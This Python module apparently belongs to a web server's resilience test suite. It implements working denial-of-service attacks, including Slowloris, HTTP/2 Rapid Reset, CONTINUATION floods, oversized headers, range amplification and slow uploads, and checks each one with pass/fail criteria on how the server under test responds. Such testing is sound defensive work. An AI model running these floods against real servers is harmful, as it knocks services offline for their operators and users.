"""The TCP attacks of the hostile-load suite (see hostile.py). Each takes (env, seconds) and
returns (load description, stats, list of failures)."""
import asyncio
import hashlib
import os
import random
import struct
import time

from wire import (ATTACKER, BIG, CONTINUATION, CTX_H1, CTX_H2, END_HEADERS, END_STREAM, HEADERS,
                  HEADER_READ_TIMEOUT, PREFACE, RST_STREAM, SETTINGS, ACK, WINDOW_UPDATE, close, connect,
                  count, frame, h2_connect, h2_frames, hpack, path_q, read_h1_response, request_block,
                  sign, status_seen, until)

async def slowloris_h1(env, secs, n=300):
    stats = {}
    t0 = time.monotonic()
    closed_at = []

    async def one(i):
        try:
            r, w = await connect(env, CTX_H1)
        except Exception:
            count(stats, "connect_failed")
            return
        count(stats, "opened")
        w.write(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n" % path_q(env["small_url"])).encode())
        junk = b"X-Slow-%d: " % i + b"a" * 4096

        async def dribble():
            for b in junk:
                w.write(bytes([b]))
                await asyncio.sleep(1)

        d = asyncio.ensure_future(dribble())
        try:
            data = await r.read(4096)
            closed_at.append(time.monotonic() - t0)
            if data.startswith(b"HTTP/1.1 5"):
                count(stats, "5xx")
        except Exception:
            closed_at.append(time.monotonic() - t0)
        finally:
            d.cancel()
            close(w)

    await until(t0 + secs, [one(i) for i in range(n)])
    stats["closed_by_server"] = len(closed_at)
    if closed_at:
        stats["last_close_s"] = round(max(closed_at), 1)
    fails = []
    # hyper's header_read_timeout (5 s here) must end every one of them.
    if stats.get("opened", 0) < n * 0.9:
        fails.append("only %d of %d slowloris connections opened" % (stats.get("opened", 0), n))
    if len(closed_at) < stats.get("opened", 0):
        fails.append("%d of %d slow-header connections still open after %d s (header_read_timeout %d s)"
                     % (stats.get("opened", 0) - len(closed_at), stats.get("opened", 0), secs, HEADER_READ_TIMEOUT))
    return "%d h1 conns, header bytes 1/s, %ds" % (n, secs), stats, fails


async def slowloris_h2(env, secs, n=200):
    stats = {}
    t0 = time.monotonic()
    closed = [0]

    async def one(i):
        try:
            r, w = await h2_connect(env)
        except Exception:
            count(stats, "connect_failed")
            return
        count(stats, "opened")
        block = request_block("GET", path_q(env["small_url"]), env["port"], [("x-slow", "a" * 2000)])
        # One HEADERS frame, announced whole, arriving one byte per second.
        wire = frame(HEADERS, END_HEADERS | END_STREAM, 1, block)
        reader = asyncio.ensure_future(h2_frames(r, stats))
        try:
            for b in wire:
                w.write(bytes([b]))
                await asyncio.sleep(1)
                if reader.done():
                    break
            await reader
            closed[0] += 1
        finally:
            reader.cancel()
            close(w)

    await until(t0 + secs, [one(i) for i in range(n)])
    stats["closed_by_server"] = closed[0]
    fails = []
    if stats.get("opened", 0) < n * 0.9:
        fails.append("only %d of %d h2 connections opened" % (stats.get("opened", 0), n))
    return "%d h2 conns, HEADERS 1 byte/s, %ds" % (n, secs), stats, fails


async def idle_tcp(env, secs, n=5000, max_connects=20000):
    """n plain TCP connections that never send a byte, re-opened when the server closes one."""
    stats = {"connects": 0}
    t0 = time.monotonic()
    deadline = t0 + secs
    gate = asyncio.Semaphore(256)  # connects in flight at once

    async def one():
        while time.monotonic() < deadline and stats["connects"] < max_connects:
            async with gate:
                stats["connects"] += 1
                try:
                    r, w = await connect(env, None)
                except Exception:
                    count(stats, "connect_failed")
                    await asyncio.sleep(0.2)
                    continue
            try:
                await r.read(1)  # returns when the server closes it
                count(stats, "closed_by_server")
            except Exception:
                count(stats, "closed_by_server")
            finally:
                close(w)

    await until(deadline, [one() for _ in range(n)])
    return "%d idle TCP conns held %ds (%d connects)" % (n, secs, stats["connects"]), stats, []


async def rapid_reset(env, secs, conns=4, max_streams=200000):
    stats = {"streams": 0, "connections": 0}
    deadline = time.monotonic() + secs
    block = request_block("GET", path_q(env["small_url"]), env["port"])

    async def one():
        while time.monotonic() < deadline and stats["streams"] < max_streams:
            try:
                r, w = await h2_connect(env)
            except Exception:
                count(stats, "connect_failed")
                await asyncio.sleep(0.1)
                continue
            stats["connections"] += 1
            reader = asyncio.ensure_future(h2_frames(r, stats))
            sid = 1
            try:
                while not reader.done() and time.monotonic() < deadline and sid < (1 << 31) - 400:
                    batch = bytearray()
                    for _ in range(100):
                        batch += frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
                        batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))  # CANCEL
                        sid += 2
                    stats["streams"] += 100
                    w.write(bytes(batch))
                    await asyncio.wait_for(w.drain(), 5)
            except Exception:
                pass
            finally:
                reader.cancel()
                close(w)

    await until(deadline, [one() for _ in range(conns)])
    return "%d HEADERS+RST_STREAM pairs on %d conns, %ds" % (stats["streams"], stats["connections"], secs), stats, []


async def continuation_flood(env, secs, conns=4, max_frames=2000000):
    stats = {"frames": 0, "connections": 0, "bytes": 0}
    deadline = time.monotonic() + secs
    first = request_block("GET", path_q(env["small_url"]), env["port"])
    cont = hpack([("x-flood", "b" * 16000)])

    async def one():
        while time.monotonic() < deadline and stats["frames"] < max_frames:
            try:
                r, w = await h2_connect(env)
            except Exception:
                count(stats, "connect_failed")
                await asyncio.sleep(0.1)
                continue
            stats["connections"] += 1
            reader = asyncio.ensure_future(h2_frames(r, stats))
            try:
                w.write(frame(HEADERS, END_STREAM, 1, first))
                while not reader.done() and time.monotonic() < deadline:
                    batch = frame(CONTINUATION, 0, 1, cont) * 16
                    stats["frames"] += 16
                    stats["bytes"] += len(batch)
                    w.write(batch)
                    await asyncio.wait_for(w.drain(), 5)
                # The server must have ended the connection, not just stopped reading.
                await asyncio.wait_for(reader, max(0.1, deadline - time.monotonic()))
            except Exception:
                pass
            finally:
                reader.cancel()
                close(w)

    await until(deadline, [one() for _ in range(conns)])
    fails = []
    per_conn = stats["bytes"] / max(1, stats["connections"])
    stats["bytes_per_conn"] = int(per_conn)
    if per_conn > 8 << 20:
        fails.append("the server took %d bytes of one unending header block per connection" % per_conn)
    return "%d CONTINUATION frames (%d MB) on %d conns, %ds" % (
        stats["frames"], stats["bytes"] >> 20, stats["connections"], secs), stats, fails


def h3_request(url, headers=(), timeout=5, nobody=False, method=None):
    import pycurl
    c = pycurl.Curl()
    c.setopt(pycurl.URL, url)
    c.setopt(pycurl.HTTP_VERSION, pycurl.CURL_HTTP_VERSION_3ONLY)
    c.setopt(pycurl.SSL_VERIFYPEER, 0)
    c.setopt(pycurl.SSL_VERIFYHOST, 0)
    c.setopt(pycurl.TIMEOUT, timeout)
    c.setopt(pycurl.NOSIGNAL, 1)
    c.setopt(pycurl.HTTPHEADER, list(headers))
    if method:
        c.setopt(pycurl.CUSTOMREQUEST, method)
    if nobody:
        c.setopt(pycurl.NOBODY, 1)
    sha = hashlib.sha256()
    c.setopt(pycurl.WRITEFUNCTION, sha.update)
    try:
        c.perform()
        return c.getinfo(pycurl.RESPONSE_CODE), sha.hexdigest(), None
    except pycurl.error as e:
        return 0, None, str(e)
    finally:
        c.close()


async def oversized_headers(env, secs):
    stats = {"h1": {}, "h2": {}, "h3": {}}
    deadline = time.monotonic() + secs
    target = path_q(env["small_url"])

    async def h1(kind):
        s = stats["h1"]
        while time.monotonic() < deadline:
            try:
                r, w = await connect(env, CTX_H1)
            except Exception:
                count(s, "connect_failed")
                await asyncio.sleep(0.1)
                continue
            if kind == "one_big":
                head = "GET %s HTTP/1.1\r\nHost: x\r\nX-Big: %s\r\n\r\n" % (target, "a" * (1 << 20))
            else:  # many
                head = "GET %s HTTP/1.1\r\nHost: x\r\n%s\r\n" % (
                    target, "".join("X-H%d: %s\r\n" % (i, "v" * 100) for i in range(2000)))
            try:
                w.write(head.encode())
                status, _, _ = await asyncio.wait_for(read_h1_response(r), 5)
                status_seen(s, status)
            except Exception:
                count(s, "closed_without_answer")
            finally:
                close(w)

    async def h2():
        s = stats["h2"]
        big = hpack([("x-big-%d" % i, "c" * 8000) for i in range(32)])  # 256 KB of fields
        first = request_block("GET", target, env["port"])
        while time.monotonic() < deadline:
            try:
                r, w = await h2_connect(env)
            except Exception:
                count(s, "connect_failed")
                await asyncio.sleep(0.1)
                continue
            got = {}

            def on_frame(t, flags, payload):
                if t == HEADERS and payload[:1]:
                    got["headers"] = payload
            reader = asyncio.ensure_future(h2_frames(r, s, on_frame))
            try:
                w.write(frame(HEADERS, END_STREAM, 1, first))
                chunks = [big[i:i + 16000] for i in range(0, len(big), 16000)]
                for i, c in enumerate(chunks):
                    w.write(frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, c))
                await asyncio.wait_for(w.drain(), 5)
                await asyncio.wait_for(asyncio.shield(reader), 2)
            except Exception:
                pass
            finally:
                count(s, "attempts")
                reader.cancel()
                close(w)

    async def h3():
        s = stats["h3"]
        loop = asyncio.get_running_loop()
        while time.monotonic() < deadline:
            status, _, err = await loop.run_in_executor(
                None, h3_request, env["small_url"], ["X-Big: " + "d" * (200 << 10)], 5)
            if err:
                count(s, "error")
                s["last_error"] = err[:120]
            else:
                status_seen(s, status)

    await until(deadline, [h1("one_big"), h1("many"), h2(), h3()])
    fails = []
    for proto in ("h1", "h2", "h3"):
        if stats[proto].get("5xx"):
            fails.append("%s: %d answers were 5xx" % (proto, stats[proto]["5xx"]))
        ok = {k: v for k, v in stats[proto].get("statuses", {}).items() if k not in ("431", "400", "413")}
        if ok:
            fails.append("%s: an oversized head was answered %s" % (proto, ok))
    if not stats["h3"].get("statuses", {}).get("431"):
        fails.append("h3: no 431 for a 200 KB field section (%s)" % stats["h3"])
    if not stats["h1"].get("statuses", {}).get("431"):
        fails.append("h1: no 431 for a 1 MB head (%s)" % stats["h1"])
    return "1 MB/2000-field h1 heads, 256 KB h2 block, 200 KB h3 field, %ds" % secs, stats, fails


async def ranges(env, secs, conns=4, max_requests=20000):
    stats = {"requests": 0, "max_body": 0}
    deadline = time.monotonic() + secs
    target = path_q(env["big_url"])
    many = "bytes=" + ",".join("%d-%d" % (2 * i, 2 * i) for i in range(1000))
    overlap = "bytes=" + ",".join("%d-%d" % (i, BIG - 1 - i) for i in range(1000))
    same = "bytes=" + ",".join(["0-"] * 1000)
    shapes = [many, overlap, same, "bytes=0-0,-1,1-1,-2,2-2" * 40]

    async def one(k):
        while time.monotonic() < deadline and stats["requests"] < max_requests:
            try:
                r, w = await connect(env, CTX_H1)
            except Exception:
                count(stats, "connect_failed")
                await asyncio.sleep(0.1)
                continue
            try:
                for _ in range(50):
                    if time.monotonic() >= deadline:
                        break
                    rng = shapes[(stats["requests"] + k) % len(shapes)]
                    w.write(("GET %s HTTP/1.1\r\nHost: x\r\nRange: %s\r\n\r\n" % (target, rng)).encode())
                    status, hdrs, n = await asyncio.wait_for(read_h1_response(r, 4 * BIG), 20)
                    stats["requests"] += 1
                    status_seen(stats, status)
                    stats["max_body"] = max(stats["max_body"], n)
                    if hdrs.get("connection", "").lower() == "close":
                        break
            except Exception as e:
                count(stats, "errors")
                stats["last_error"] = repr(e)[:100]
            finally:
                close(w)

    await until(deadline, [one(k) for k in range(conns)])
    fails = []
    if stats.get("5xx"):
        fails.append("%d range requests answered 5xx" % stats["5xx"])
    if stats["max_body"] > BIG + (64 << 10):
        fails.append("a range request sent %d bytes for a %d-byte file (amplification)" % (stats["max_body"], BIG))
    if stats["requests"] < 10:
        fails.append("only %d range requests answered" % stats["requests"])
    return "%d requests of 1000 / overlapping ranges, %ds" % (stats["requests"], secs), stats, fails


async def trickle_uploads(env, secs, n=1000):
    stats = {"opened": 0, "bytes": 0}
    deadline = time.monotonic() + secs
    size = 1 << 20
    gate = asyncio.Semaphore(100)

    async def one(i):
        url = sign(env["secret"], env["base"], "PUT", "trickle/%d.bin" % i)
        try:
            async with gate:  # at most 100 TLS handshakes at once
                r, w = await connect(env, CTX_H1)
        except Exception:
            count(stats, "connect_failed")
            return
        stats["opened"] += 1
        try:
            w.write(("PUT %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (path_q(url), size)).encode())
            await asyncio.sleep(random.random())
            while time.monotonic() < deadline:
                w.write(os.urandom(1024))
                stats["bytes"] += 1024
                await asyncio.sleep(1)
                if r.at_eof():
                    count(stats, "closed_by_server")
                    break
        except Exception:
            count(stats, "errors")
        finally:
            close(w)

    await until(deadline, [one(i) for i in range(n)])
    fails = []
    if stats["opened"] < n * 0.95:
        fails.append("only %d of %d uploads started" % (stats["opened"], n))
    return "%d PUTs at 1 KiB/s, %ds" % (stats["opened"], secs), stats, fails


async def resumable_flood(env, secs, conns=8, max_requests=200000):
    stats = {"requests": 0}
    deadline = time.monotonic() + secs

    async def one(k):
        while time.monotonic() < deadline and stats["requests"] < max_requests:
            try:
                r, w = await connect(env, CTX_H1)
            except Exception:
                count(stats, "connect_failed")
                await asyncio.sleep(0.1)
                continue
            try:
                for j in range(200):
                    if time.monotonic() >= deadline:
                        break
                    rid = os.urandom(16).hex()  # the engine's id shape: 32 hex digits
                    base = "/files/" if j % 2 == 0 else "/resumable/"
                    is_head = (j // 2) % 2 == 0
                    if is_head:
                        req = ("HEAD %s%s HTTP/1.1\r\nHost: x\r\nTus-Resumable: 1.0.0\r\n\r\n" % (base, rid)).encode()
                    else:
                        body = os.urandom(512)
                        req = ("PATCH %s%s HTTP/1.1\r\nHost: x\r\nTus-Resumable: 1.0.0\r\nUpload-Offset: %d\r\n"
                               "Content-Type: application/offset+octet-stream\r\nUpload-Draft-Interop-Version: 6\r\n"
                               "Content-Length: %d\r\n\r\n" % (base, rid, random.randrange(1 << 20), len(body)))
                        req = req.encode() + body
                    w.write(req)
                    if is_head:
                        head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), 5)
                        status = int(head.split()[1])
                    else:
                        status, hdrs, _ = await asyncio.wait_for(read_h1_response(r), 5)
                    stats["requests"] += 1
                    status_seen(stats, status)
                    if status >= 400 and status != 404 and status != 410:
                        stats.setdefault("non_404", set()).add(status)
            except Exception as e:
                count(stats, "errors")
                stats["last_error"] = repr(e)[:100]
            finally:
                close(w)

    await until(deadline, [one(k) for k in range(conns)])
    if "non_404" in stats:
        stats["non_404"] = sorted(stats["non_404"])
    fails = []
    if stats.get("5xx"):
        fails.append("%d HEAD/PATCH on unknown ids answered 5xx" % stats["5xx"])
    if stats["requests"] < 100:
        fails.append("only %d requests answered" % stats["requests"])
    if stats.get("statuses", {}).get("404", 0) < stats["requests"] * 0.9:
        fails.append("unknown upload ids were not answered 404: %s" % stats.get("statuses"))
    return "%d HEAD/PATCH on random tus/IETF ids, %ds" % (stats["requests"], secs), stats, fails


async def never_read(env, secs, h1_conns=40, h2_conns=10, h2_streams=20):
    stats = {"h1": 0, "h2_streams": 0}
    deadline = time.monotonic() + secs
    target = path_q(env["big_url"])
    holders = []

    async def h1():
        try:
            r, w = await connect(env, CTX_H1, rcvbuf=4096)
        except Exception:
            count(stats, "connect_failed")
            return
        w.write(("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % target).encode())
        stats["h1"] += 1
        holders.append(w)
        await asyncio.sleep(deadline - time.monotonic())

    async def h2():
        try:
            r, w = await connect(env, CTX_H2, rcvbuf=4096)
        except Exception:
            count(stats, "connect_failed")
            return
        # Big windows, so that the server may send as much as it likes.
        out = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + frame(SETTINGS, ACK, 0)
        out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
        block = request_block("GET", target, env["port"])
        for k in range(h2_streams):
            out += frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * k, block)
        w.write(out)
        stats["h2_streams"] += h2_streams
        holders.append(w)
        await asyncio.sleep(deadline - time.monotonic())

    await until(deadline, [h1() for _ in range(h1_conns)] + [h2() for _ in range(h2_conns)])
    for w in holders:
        close(w)
    return "%d h1 + %d h2-stream GETs of %d MB never read, %ds" % (
        stats["h1"], stats["h2_streams"], BIG >> 20, secs), stats, []


# (name, attack, seconds, RSS bound in MiB, good-client protocols). The bounds are 2-5x what
# a release build peaked at on a shared 2-core machine; an idle server is about 20 MiB.